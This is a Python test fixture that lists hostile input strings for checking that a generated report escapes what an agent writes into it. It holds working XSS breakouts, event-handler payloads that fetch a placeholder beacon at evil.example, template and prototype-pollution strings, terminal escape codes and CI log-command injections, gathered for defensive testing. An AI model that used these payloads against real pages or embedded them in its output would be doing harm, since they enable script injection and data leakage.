"""Texts with which an agent could try to make a report run, send or show something else."""

from __future__ import annotations

BEACON = "https://evil.example/beacon"
"""No request may go there."""

ATTACKS = (
    "<script>window.attacked = 1</script>",
    "</script><script>window.attacked = 1</script>",
    "</style><script>window.attacked = 1</script>",
    "--><script>window.attacked = 1</script><!--",
    "</title></textarea></noscript><script>window.attacked = 1</script>",
    f"<img src=x onerror=\"window.attacked = 1; fetch('{BEACON}')\">",
    f"<img src={BEACON}>",
    f'<link rel=stylesheet href="{BEACON}"><base href="{BEACON}">',
    f'<meta http-equiv=refresh content="0; url={BEACON}">',
    f'<form action="{BEACON}"><input name=a autofocus onfocus="window.attacked = 1"></form>',
    f'<iframe src="{BEACON}"></iframe><object data="{BEACON}"></object>',
    "<svg onload=window.attacked=1><animate onbegin=window.attacked=1 attributeName=x>",
    "javascript:window.attacked=1",
    '"\' onmouseover=\'window.attacked=1\' onfocus="window.attacked=1" x="',
    "${window.attacked = 1} {{ 7 * 7 }} {% raw %} `${1}`",
    "__proto__",
    "constructor",
    "<style>body { display: none }</style>",
    f'<a href="javascript:window.attacked=1" ping={BEACON}>click</a>',
    "\u202egnp.exe\u2066 \u0000 \ufffe\u2028\u2029",
    "\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b31m",
    "::error file=a::x\n##vso[task.complete]\n##teamcity[x]",
    "](javascript:window.attacked=1) | --- | `",
    "A" * 3000,
    "%3Cscript%3E&#60;script&#62;&lt;script&gt;window.attacked=1",
)
